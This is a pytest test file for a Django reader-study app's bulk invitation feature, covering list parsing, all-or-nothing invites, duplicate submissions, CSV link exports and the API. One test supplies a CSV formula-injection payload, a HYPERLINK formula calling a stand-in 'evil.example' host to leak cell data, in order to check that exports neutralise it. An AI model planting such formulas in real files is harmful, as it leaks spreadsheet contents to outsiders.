"""Inviting many readers at once: the list is read whole, and invited whole or not at all."""
from __future__ import annotations

import csv
import io

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile

from readerstudy.invitations import InviteRow, ReaderListError, invite_readers, parse_reader_list
from readerstudy.models import Reader
from readerstudy.services import ActionRefused, change_status


def test_a_pasted_list_with_commas_tabs_and_angle_brackets_is_read_line_by_line():
    rows = parse_reader_list("Dr. Gray, gray@example.org\n\n# the residents\nR017\nAda Lovelace <ada@example.org>\n")
    assert rows == [InviteRow(1, "Dr. Gray", "gray@example.org"), InviteRow(4, "R017"),
                    InviteRow(5, "Ada Lovelace", "ada@example.org")]
    pasted = parse_reader_list("Dr.  Gray\tgray@example.org\tgray\nDr. Wu\t\t")
    assert pasted == [InviteRow(1, "Dr. Gray", "gray@example.org", "gray"), InviteRow(2, "Dr. Wu")]


def test_a_csv_header_names_the_columns_in_any_order():
    rows = parse_reader_list("E-mail;Name\nwu@example.org;Dr. Wu\n;R002\n")
    assert rows == [InviteRow(2, "Dr. Wu", "wu@example.org"), InviteRow(3, "R002")]


def test_every_problem_in_a_list_is_reported_with_its_line():
    with pytest.raises(ReaderListError) as caught:
        parse_reader_list("Dr. Gray, not-an-address\n, x@example.org\nR1\nr1 \nA, a@example.org, acc, extra\n")
    assert caught.value.problems == [
        "line 1: 'not-an-address' is not an e-mail address", "line 2: no reader name",
        "line 5: 4 columns; give name, e-mail and account at most", "line 4: 'r1' is already on line 3"]
    with pytest.raises(ReaderListError, match="empty"):
        parse_reader_list(" \n# only a comment\n")
    with pytest.raises(ReaderListError, match="at most 500"):
        parse_reader_list("\n".join(f"R{i}" for i in range(501)))


@pytest.mark.django_db
def test_a_list_is_invited_whole_and_each_reader_with_an_address_gets_their_link(study):
    rows = parse_reader_list("Dr. Gray, gray@example.org\nR002\nDr. Wu, wu@example.org")
    readers, failed = invite_readers(study, rows, link_for=lambda r: f"https://mirage.test/r/{r.token}/")
    assert [r.name for r in readers] == ["Dr. Gray", "R002", "Dr. Wu"] and failed == []
    assert [r.ordinal for r in readers] == [0, 1, 2]  # three reader groups of the shared case set
    assert all(r.trials.exists() for r in readers)
    assert sorted(m.to[0] for m in mail.outbox) == ["gray@example.org", "wu@example.org"]
    gray = next(m for m in mail.outbox if m.to == ["gray@example.org"])
    assert f"https://mirage.test/r/{readers[0].token}/" in gray.body


@pytest.mark.django_db
def test_one_bad_line_invites_nobody(study, alice):
    invite_readers(study, [InviteRow(1, "Dr. Gray")])
    with pytest.raises(ActionRefused) as caught:
        invite_readers(study, parse_reader_list("R005\ndr.  gray\nR006, , nobody-here"))
    assert str(caught.value) == ("Nobody was invited: line 2: a reader called 'dr. gray' is already invited to this "
                                 "study; line 3: no active account is called 'nobody-here'.")
    assert list(Reader.objects.values_list("name", flat=True)) == ["Dr. Gray"]
    readers, _ = invite_readers(study, parse_reader_list(f"R005, , {alice.username}"))
    assert readers[0].user == alice and readers[0].account_bound


@pytest.mark.django_db
def test_a_closed_study_takes_no_list(study):
    change_status(study, "close")
    with pytest.raises(ActionRefused, match="closed"):
        invite_readers(study, [InviteRow(1, "R1")])
    assert not Reader.objects.exists()


def _post_list(client, study, **data):
    return client.post(f"/coordinator/studies/{study.pk}/readers/invite-list/", data, HTTP_HX_REQUEST="true")


def _stamp(client, study):
    page = client.get(f"/coordinator/studies/{study.pk}/").content.decode()
    return page.split('name="form_stamp" value="', 1)[1].split('"', 1)[0]


@pytest.mark.django_db
def test_the_same_list_sent_twice_invites_once(client, alice, study):
    client.force_login(alice)
    stamp = _stamp(client, study)
    first = _post_list(client, study, readers="R001\nR002", form_stamp=stamp)
    assert first.status_code == 200 and "2 readers invited." in first.content.decode()
    again = _post_list(client, study, readers="R001\nR002", form_stamp=stamp)
    assert "nobody new was invited" in again.content.decode()
    assert Reader.objects.count() == 2
    # Without the stamp of an earlier page the same names are a mistake, and are said to be one.
    third = _post_list(client, study, readers="R001\nR003", form_stamp=_stamp(client, study))
    assert "already invited" in third.content.decode() and Reader.objects.count() == 2


@pytest.mark.django_db
def test_a_csv_file_invites_its_readers_and_a_bad_file_changes_nothing(client, alice, study):
    client.force_login(alice)
    good = SimpleUploadedFile("readers.csv", "\ufeffname,email\nDr. Wu,wu@example.org\nR002,\n".encode(),
                              content_type="text/csv")
    response = _post_list(client, study, file=good)
    assert "2 readers invited, 1 invitation e-mail sent." in response.content.decode()
    assert set(Reader.objects.values_list("name", flat=True)) == {"Dr. Wu", "R002"}
    binary = SimpleUploadedFile("scan.csv", bytes(range(256)) * 4, content_type="text/csv")
    assert "Nobody was invited" in _post_list(client, study, file=binary).content.decode()
    huge = SimpleUploadedFile("big.csv", b"R\n" * 200_000, content_type="text/csv")
    assert "larger than 256 KB" in _post_list(client, study, file=huge).content.decode()
    both = SimpleUploadedFile("r.csv", b"R9\n", content_type="text/csv")
    assert "not both" in _post_list(client, study, file=both, readers="R8").content.decode()
    assert Reader.objects.count() == 2


@pytest.mark.django_db
def test_without_htmx_the_list_redirects_to_the_study_with_its_message(client, alice, study):
    client.force_login(alice)
    response = client.post(f"/coordinator/studies/{study.pk}/readers/invite-list/", {"readers": "R1"}, follow=True)
    assert response.redirect_chain == [(f"/coordinator/studies/{study.pk}/", 302)]
    assert "1 reader invited." in response.content.decode()


@pytest.mark.django_db
def test_the_links_file_lists_every_reader_with_their_link_and_is_not_cached(client, alice, study):
    invite_readers(study, parse_reader_list("Dr. Gray, gray@example.org\nR002"))
    client.force_login(alice)
    response = client.get(f"/coordinator/studies/{study.pk}/readers/links.csv")
    assert response["Cache-Control"] == "no-store" and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    gray = Reader.objects.get(name="Dr. Gray")
    assert [r["name"] for r in rows] == ["Dr. Gray", "R002"]
    assert rows[0]["link"] == f"http://testserver/r/{gray.token}/" and rows[0]["state"] == "invited"
    client.logout()
    assert client.get(f"/coordinator/studies/{study.pk}/readers/links.csv").status_code in (302, 403)


@pytest.mark.django_db
def test_the_api_invites_a_list_through_the_same_rule(client, alice, study):
    client.force_login(alice)
    url = "/api/readers/invite-list/"
    response = client.post(url, {"study": study.pk, "readers": "Dr. Gray, gray@example.org\nR002"},
                           content_type="application/json")
    assert response.status_code == 201, response.content
    body = response.json()
    assert [r["name"] for r in body["invited"]] == ["Dr. Gray", "R002"] and body["email_problems"] == []
    assert body["invited"][0]["invitation_url"].endswith(f"/r/{Reader.objects.get(name='Dr. Gray').token}/")
    bad = client.post(url, {"study": study.pk, "readers": "R003\nR003"}, content_type="application/json")
    assert bad.status_code == 400 and bad.json() == {"readers": ["line 2: 'R003' is already on line 1"]}
    again = client.post(url, {"study": study.pk, "readers": "R004\nr002"}, content_type="application/json")
    assert again.status_code == 400 and "already invited" in again.json()["detail"]
    assert Reader.objects.count() == 2


@pytest.mark.django_db
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(client, alice, study):
    formula = '=HYPERLINK("http://evil.example/?"&D3)'
    invite_readers(study, [InviteRow(1, formula), InviteRow(2, "+1+1"), InviteRow(3, "@SUM(1)"),
                           InviteRow(4, "-2+3"), InviteRow(5, "Dr. Gray")])
    client.force_login(alice)
    rows = list(csv.DictReader(io.StringIO(client.get(f"/coordinator/studies/{study.pk}/readers/links.csv")
                                           .content.decode())))
    assert [r["name"] for r in rows] == ["'" + formula, "'+1+1", "'@SUM(1)", "'-2+3", "Dr. Gray"]
    assert all(r["link"].startswith("http://testserver/r/") for r in rows)


@pytest.mark.django_db
def test_typed_text_in_the_responses_export_cannot_run_as_a_formula(make_study):
    from readerstudy.export import csv_lines
    from readerstudy.services import Submission, start_reading, submit_response

    study = make_study(ask_reason=True)
    reader = invite_readers(study, [InviteRow(1, "R001")])[0][0]
    start_reading(reader, {"role": "radiologist", "years_experience": 3, "subspecialty": "@neuro"}, consented=True)
    trials = list(reader.trials.order_by("index")[:2])
    submit_response(reader, Submission(trial_token=trials[0].token, answer="real", reason="=1+1 looks too smooth"))
    submit_response(reader, Submission(trial_token=trials[1].token, answer="real", reason="grain (too fine)"))
    rows = list(csv.DictReader(io.StringIO("".join(csv_lines(study)))))
    assert [r["reason"] for r in rows] == ["'=1+1 looks too smooth", "grain (too fine)"]
    assert {r["reader_subspecialty"] for r in rows} == {"'@neuro"}


def test_an_address_longer_than_a_reader_can_keep_is_refused():
    long = "a" * 250 + "@example.org"
    with pytest.raises(ReaderListError, match="longer than 254 characters"):
        parse_reader_list(f"Dr. Gray, {long}")


@pytest.mark.django_db
def test_a_failing_e_mail_leaves_the_list_invited_and_says_so(study, monkeypatch):
    from django.core.mail import BadHeaderError

    sent = []

    def flaky(study, reader, address, link):
        if reader.name == "Dr. Wu":
            raise BadHeaderError("Header values can't contain newlines")
        sent.append(address)

    monkeypatch.setattr("readerstudy.invitations.send_invitation", flaky)
    readers, failed = invite_readers(study, parse_reader_list("Dr. Wu, wu@example.org\nDr. Gray, gray@example.org"),
                                     link_for=lambda r: "link")
    assert [r.name for r in readers] == ["Dr. Wu", "Dr. Gray"] and sent == ["gray@example.org"]
    assert failed == ["Dr. Wu is invited, but the e-mail to wu@example.org could not be sent (BadHeaderError); "
                      "use Remind, or copy their link from the table."]


@pytest.mark.django_db
def test_the_same_names_sent_again_with_an_account_added_are_not_taken_for_a_double_click(client, alice, study):
    client.force_login(alice)
    stamp = _stamp(client, study)
    _post_list(client, study, readers="R1", form_stamp=stamp)
    again = _post_list(client, study, readers=f"R1, , {alice.username}", form_stamp=stamp)
    assert "already invited" in again.content.decode()
    assert Reader.objects.get().user is None


@pytest.mark.django_db
@pytest.mark.parametrize("headers, reason", [
    ({"HTTP_HX_PROMPT": "50%41 of answers in 1 s"}, "50%41 of answers in 1 s"),  # as typed: never decoded
    ({"HTTP_HX_PROMPT": "r%C3%A9sident%20absent", "HTTP_HX_PROMPT_URI_AUTOENCODED": "true"}, "résident absent"),
])
def test_the_reason_typed_when_excluding_is_kept_as_typed(client, alice, study, headers, reason):
    reader = invite_readers(study, [InviteRow(1, "R1")])[0][0]
    client.force_login(alice)
    response = client.post(f"/coordinator/studies/{study.pk}/readers/{reader.pk}/exclude/", HTTP_HX_REQUEST="true",
                           **headers)
    assert response.status_code == 200
    reader.refresh_from_db()
    assert reader.excluded and reader.exclusion_reason == reason


@pytest.mark.django_db
def test_a_study_name_with_a_line_break_still_sends_its_invitations(make_study):
    study = make_study(name="Chest X-ray\nround 2")
    readers, failed = invite_readers(study, parse_reader_list("Dr. Gray, gray@example.org"), link_for=lambda r: "L")
    assert failed == [] and [m.subject for m in mail.outbox] == ["Invitation: Chest X-ray round 2"]
